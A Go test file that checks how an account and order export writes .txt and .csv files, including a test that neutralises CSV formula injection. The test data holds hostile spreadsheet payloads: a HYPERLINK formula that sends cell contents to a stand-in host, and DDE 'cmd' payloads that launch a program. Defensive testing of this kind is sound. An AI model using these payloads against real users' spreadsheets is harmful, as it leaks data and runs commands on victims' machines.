package account

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/hstockplus/hstockplus/client"
)

// TestExportEncodersGiveExactlyTheAccounts (from gui/orders_test.go): .txt has one line per
// account, .csv reads back exactly the accounts.
func TestExportEncodersGiveExactlyTheAccounts(t *testing.T) {
	accounts := []string{
		"plain@mail.test:password",
		"colon@mail.test:pa:ss:word",
		"comma@mail.test:pa,ss",
		`quote@mail.test:pa"ss"`,
		"newline@mail.test:pa\nss",
		"token-without-colon",
		" spaced : pw ",
	}
	wantTXT := "plain@mail.test:password\ncolon@mail.test:pa:ss:word\ncomma@mail.test:pa,ss\nquote@mail.test:pa\"ss\"\nnewline@mail.test:pa ss\ntoken-without-colon\n spaced : pw \n"
	if got := string(ExportTXT(accounts)); got != wantTXT {
		t.Fatalf("txt =\n%q\nwant\n%q", got, wantTXT)
	}
	if got := strings.Split(strings.TrimSuffix(string(ExportTXT(accounts)), "\n"), "\n"); len(got) != len(accounts) {
		t.Fatalf("txt has %d lines for %d accounts", len(got), len(accounts))
	}
	wantCSV := "order,account\n" +
		"42,plain@mail.test:password\n" +
		"42,colon@mail.test:pa:ss:word\n" +
		"42,\"comma@mail.test:pa,ss\"\n" +
		"42,\"quote@mail.test:pa\"\"ss\"\"\"\n" +
		"42,\"newline@mail.test:pa\nss\"\n" +
		"42,token-without-colon\n" +
		"42,\" spaced : pw \"\n"
	got := ExportCSV(42, accounts)
	if string(got) != wantCSV {
		t.Fatalf("csv =\n%q\nwant\n%q", got, wantCSV)
	}
	recs, err := csv.NewReader(bytes.NewReader(got)).ReadAll()
	if err != nil || len(recs) != len(accounts)+1 {
		t.Fatalf("csv reads back as %d records, %v", len(recs), err)
	}
	for i, a := range accounts {
		if recs[i+1][0] != "42" || recs[i+1][1] != a {
			t.Errorf("record %d = %q, want %q", i+1, recs[i+1], a)
		}
	}
	if len(ExportTXT(nil)) != 0 || string(ExportCSV(1, nil)) != "order,account\n" {
		t.Fatal("empty exports")
	}
}

// TestExportTXTLineBreaks: CR, LF and CRLF inside an account each become one space.
func TestExportTXTLineBreaks(t *testing.T) {
	got := string(ExportTXT([]string{"a\r\nb", "c\rd", "e\n\nf", "g:h"}))
	if want := "a b\nc d\ne  f\ng:h\n"; got != want {
		t.Fatalf("txt = %q, want %q", got, want)
	}
}

// TestExportCSVNeutralisesFormulas: a supplier-delivered account that a spreadsheet would run as a
// formula (CSV injection) is written with a leading single quote in the .csv; ordinary accounts
// and the .txt export are unchanged.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	dangerous := []string{
		`=HYPERLINK("http://x/?"&A2)`,
		`=cmd|' /C calc'!A0`,
		"+1+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0",
		"@SUM(1+9)*cmd|' /C calc'!A0",
		"\t=1+1",
		"\r=1+1",
		"=",
		"-",
	}
	safe := []string{"user:pass", "mail@x.test:p=w:+1", "a-b:c@d", "'quoted:pw", "token", " =spaced"}
	accounts := append(append([]string{}, dangerous...), safe...)

	recs, err := csv.NewReader(bytes.NewReader(ExportCSV(7, accounts))).ReadAll()
	if err != nil || len(recs) != len(accounts)+1 {
		t.Fatalf("csv reads back as %d records, %v", len(recs), err)
	}
	for i, a := range dangerous {
		if got, want := recs[i+1][1], "'"+a; got != want {
			t.Errorf("dangerous %q exported as %q, want %q", a, got, want)
		}
	}
	for i, a := range safe {
		if got := recs[len(dangerous)+i+1][1]; got != a {
			t.Errorf("safe %q exported as %q, want it unchanged", a, got)
		}
	}
	for _, r := range recs[1:] {
		if c := r[1]; c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
			t.Errorf("cell %q still begins with a formula trigger", c)
		}
	}
	if got, want := string(ExportCSV(7, []string{"user:pass"})), "order,account\n7,user:pass\n"; got != want {
		t.Errorf("csv = %q, want %q", got, want)
	}

	// The .txt export stays exact (apart from its documented line-break rule).
	txt := strings.Split(strings.TrimSuffix(string(ExportTXT(accounts)), "\n"), "\n")
	if len(txt) != len(accounts) {
		t.Fatalf("txt has %d lines for %d accounts", len(txt), len(accounts))
	}
	for i, a := range accounts {
		if want := oneLine(a); txt[i] != want {
			t.Errorf("txt line %d = %q, want %q", i, txt[i], want)
		}
	}
	if got := string(ExportTXT([]string{`=cmd|' /C calc'!A0`, "user:pass"})); got != "=cmd|' /C calc'!A0\nuser:pass\n" {
		t.Errorf("txt = %q", got)
	}
}

func TestExportOrdersCSV(t *testing.T) {
	at := time.Date(2026, 11, 30, 9, 15, 0, 0, time.UTC)
	orders := []Order{
		{ID: 23502, PlacedAt: at, Service: 7, Label: "=Likes", Link: "https://x/y", Quantity: 1000, Status: "Completed", Charge: client.MustDecimal("0.5000"), Currency: "USD"},
		{ID: 23501, PlacedAt: at.Add(-time.Hour), Service: 2, Label: "Gmail", Quantity: 2, Delivered: 2},
	}
	got := string(ExportOrdersCSV(orders))
	want := "order,placed,service,name,link,quantity,status,charge,currency,delivered\n" +
		"23502,2026-11-30T09:15:00Z,7,'=Likes,https://x/y,1000,Completed,0.5000,USD,0\n" +
		"23501,2026-11-30T08:15:00Z,2,Gmail,,2,,,,2\n"
	if got != want {
		t.Fatalf("csv =\n%s\nwant\n%s", got, want)
	}
}
